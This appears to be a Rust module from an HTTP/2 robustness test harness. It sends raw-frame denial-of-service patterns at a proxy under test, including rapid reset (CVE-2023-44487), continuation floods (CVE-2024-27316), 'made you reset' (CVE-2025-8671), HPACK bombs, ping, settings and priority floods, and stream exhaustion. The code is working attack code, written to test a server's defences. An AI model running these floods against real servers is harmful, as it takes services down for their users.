//! What clients do to a server of HTTP/2.

use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedWriteHalf;
use tokio::task::AbortHandle;
use tokio::time::sleep;

use super::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW, PING, PRIORITY,
    SETTINGS, block, frame, get, hello, post, reset, window_update,
};
use super::{Ground, Result, pace};

/// Frames that are sent at once.
const BURST: u32 = 100;
/// The time between two bursts.
const PAUSE: Duration = pace(10);

/// A connection whose answers are thrown away.
struct Raw {
    write: OwnedWriteHalf,
    reading: AbortHandle,
}

impl Raw {
    async fn open(ground: &Ground, settings: &[(u16, u32)]) -> std::io::Result<Self> {
        let stream = TcpStream::connect(ground.proxy).await?;
        stream.set_nodelay(true)?;
        let (mut read, mut write) = stream.into_split();
        write.write_all(&hello(settings)).await?;
        write.write_all(&frame(SETTINGS, ACK, 0, &[])).await?;
        let reading = tokio::spawn(async move {
            let mut thrown_away = [0; 4096];
            while matches!(read.read(&mut thrown_away).await, Ok(1..)) {}
        });
        Ok(Self {
            write,
            reading: reading.abort_handle(),
        })
    }

    /// Sends `bytes`, which are so many attempts; fails once the proxy has ended the connection.
    async fn burst(&mut self, ground: &Ground, attempts: u32, bytes: &[u8]) -> std::io::Result<()> {
        if self.reading.is_finished() {
            return Err(std::io::ErrorKind::ConnectionAborted.into());
        }
        self.write.write_all(bytes).await?;
        ground.count(u64::from(attempts));
        sleep(PAUSE).await;
        Ok(())
    }
}

impl Drop for Raw {
    fn drop(&mut self) {
        self.reading.abort();
    }
}

/// The streams of a client, a burst at a time.
fn bursts() -> impl Iterator<Item = std::ops::Range<u32>> {
    (0..).map(|burst| burst * BURST..(burst + 1) * BURST)
}

fn id(number: u32) -> u32 {
    2 * number + 1
}

/// CVE-2023-44487: requests that are reset in the same breath.
pub(super) async fn rapid_reset(ground: Ground, _index: usize) -> Result {
    let mut raw = Raw::open(&ground, &[]).await?;
    for burst in bursts() {
        let bytes: Vec<u8> = burst
            .flat_map(|number| [get(id(number), "/"), reset(id(number))].concat())
            .collect();
        raw.burst(&ground, BURST, &bytes).await?;
    }
    Ok(())
}

/// The same, but so slowly that each request has begun to be answered.
pub(super) async fn slow_reset(ground: Ground, _index: usize) -> Result {
    let mut raw = Raw::open(&ground, &[]).await?;
    for number in (0..).step_by(10) {
        let streams = number..number + 10;
        let opened: Vec<u8> = streams
            .clone()
            .flat_map(|it| get(id(it), "/slow"))
            .collect();
        raw.burst(&ground, 10, &opened).await?;
        let closed: Vec<u8> = streams.flat_map(|it| reset(id(it))).collect();
        raw.burst(&ground, 0, &closed).await?;
    }
    Ok(())
}

/// CVE-2024-27316 and its like: a header block that does not end, in large pieces or in empty ones.
pub(super) async fn continuation(ground: Ground, index: usize) -> Result {
    let mut raw = Raw::open(&ground, &[]).await?;
    let begin = frame(HEADERS, END_STREAM, 1, &block("GET", "/"));
    raw.burst(&ground, 1, &begin).await?;
    // A literal field without indexing: `x` is as long as the frame.
    let field = [&[0, 1, b'x', 0x7f, 0x81, 0x06], &[b'x'; 896][..]].concat();
    let payload: &[u8] = if index % 2 == 0 { &field } else { &[] };
    loop {
        let bytes = frame(CONTINUATION, 0, 1, payload).repeat(BURST as usize);
        raw.burst(&ground, BURST, &bytes).await?;
    }
}

/// CVE-2025-8671: requests that the server is made to reset itself, in each way there is. Some ways end
/// the connection at once.
pub(super) async fn made_you_reset(ground: Ground, _index: usize) -> Result {
    const AT_ONCE: u32 = 40;
    for way in (0..4).cycle() {
        let mut raw = Raw::open(&ground, &[]).await?;
        for number in (0..2000).step_by(AT_ONCE as usize) {
            let bytes: Vec<u8> = (number..number + AT_ONCE)
                .flat_map(|number| [get(id(number), "/slow"), unwelcome(way, id(number))].concat())
                .collect();
            if raw.burst(&ground, AT_ONCE, &bytes).await.is_err() {
                break;
            }
        }
    }
    Ok(())
}

/// A frame for a stream that may be reset for it.
fn unwelcome(way: u32, stream: u32) -> Vec<u8> {
    match way {
        // A window that is too large.
        0 => window_update(stream, (1 << 31) - 1),
        // A body behind the end.
        1 => frame(DATA, 0, stream, b"more"),
        // A stream that depends on itself.
        2 => frame(
            PRIORITY,
            0,
            stream,
            &[&stream.to_be_bytes()[..], &[16]].concat(),
        ),
        // An increment of nothing.
        _ => window_update(stream, 0),
    }
}

/// Frames that ask for an answer, or for nothing, over and over.
async fn endless(ground: Ground, bytes: Vec<u8>) -> Result {
    let mut raw = Raw::open(&ground, &[]).await?;
    let opened = [post(1, "/echo"), get(3, "/slow")].concat();
    raw.burst(&ground, 1, &opened).await?;
    loop {
        raw.burst(&ground, BURST, &bytes.repeat(BURST as usize))
            .await?;
    }
}

pub(super) async fn settings(ground: Ground, index: usize) -> Result {
    const HEADER_TABLE_SIZE: u16 = 1;
    let size: u32 = if index % 2 == 0 { 0 } else { 65_536 };
    let payload = [
        &HEADER_TABLE_SIZE.to_be_bytes()[..],
        &size.to_be_bytes()[..],
    ];
    endless(ground, frame(SETTINGS, 0, 0, &payload.concat())).await
}

pub(super) async fn ping(ground: Ground, _index: usize) -> Result {
    endless(ground, frame(PING, 0, 0, b"are you ")).await
}

pub(super) async fn empty_data(ground: Ground, _index: usize) -> Result {
    endless(ground, frame(DATA, 0, 1, &[])).await
}

pub(super) async fn priority(ground: Ground, _index: usize) -> Result {
    endless(ground, frame(PRIORITY, 0, 5, &[0, 0, 0, 0, 16])).await
}

pub(super) async fn window_updates(ground: Ground, _index: usize) -> Result {
    endless(ground, [window_update(0, 1), window_update(1, 1)].concat()).await
}

/// Answers that begin, and may go on by a byte now and then.
pub(super) async fn small_windows(ground: Ground, index: usize) -> Result {
    let window = u32::try_from(index % 2).unwrap();
    const STREAMS: u32 = 25;
    let mut raw = Raw::open(&ground, &[(INITIAL_WINDOW, window)]).await?;
    let opened: Vec<u8> = (0..STREAMS).flat_map(|it| get(id(it), "/big")).collect();
    raw.burst(&ground, STREAMS, &opened).await?;
    loop {
        let bytes: Vec<u8> = (0..STREAMS)
            .flat_map(|it| window_update(id(it), 1))
            .collect();
        raw.burst(&ground, STREAMS, &bytes).await?;
    }
}

/// Ten thousand streams that are all to be open at once, and to stay so.
pub(super) async fn streams(ground: Ground, _index: usize) -> Result {
    const AT_ONCE: u32 = 40;
    let mut raw = Raw::open(&ground, &[]).await?;
    for number in (0..10_000).step_by(AT_ONCE as usize) {
        let streams = number..number + AT_ONCE;
        let bytes: Vec<u8> = streams.flat_map(|it| get(id(it), "/never")).collect();
        raw.burst(&ground, AT_ONCE, &bytes).await?;
    }
    Ok(())
}

/// A small block that stands for a large list: one long field, put into the table and named again and
/// again; or a table whose size changes without an end.
pub(super) async fn hpack(ground: Ground, index: usize) -> Result {
    let mut raw = Raw::open(&ground, &[]).await?;
    for number in 0.. {
        let mut bomb = block("GET", "/");
        if index % 2 == 0 {
            // `x` with 3,000 bytes, into the table, where it is the newest (62), and 10,000 times more.
            bomb.extend([0x40, 1, b'x', 0x7f, 0xb9, 0x16]);
            bomb.extend([b'x'; 3000]);
            bomb.extend([0xbe; 10_000]);
        } else {
            bomb = [&[0x20, 0x3f, 0xe1, 0x1f].repeat(3000)[..], &bomb].concat();
        }
        let bytes = frame(HEADERS, END_HEADERS | END_STREAM, id(number), &bomb);
        raw.burst(&ground, 1, &bytes).await?;
    }
    Ok(())
}

/// Lists that are larger than they may be, and not by so much that the connection is ended for it.
pub(super) async fn large_lists(ground: Ground, _index: usize) -> Result {
    let mut raw = Raw::open(&ground, &[]).await?;
    for number in 0.. {
        let mut list = block("GET", "/");
        // `x` with 3,000 bytes, not to be put into the table, 30 times.
        for _ in 0..30 {
            list.extend([0, 1, b'x', 0x7f, 0xb9, 0x16]);
            list.extend([b'x'; 3000]);
        }
        let pieces: Vec<&[u8]> = list.chunks(16_000).collect();
        let (first, others) = pieces.split_first().unwrap();
        let mut bytes = frame(HEADERS, END_STREAM, id(number), first);
        for (index, piece) in others.iter().enumerate() {
            let is_last = index + 1 == others.len();
            let flags = if is_last { END_HEADERS } else { 0 };
            bytes.extend(frame(CONTINUATION, flags, id(number), piece));
        }
        raw.burst(&ground, 1, &bytes).await?;
    }
    Ok(())
}
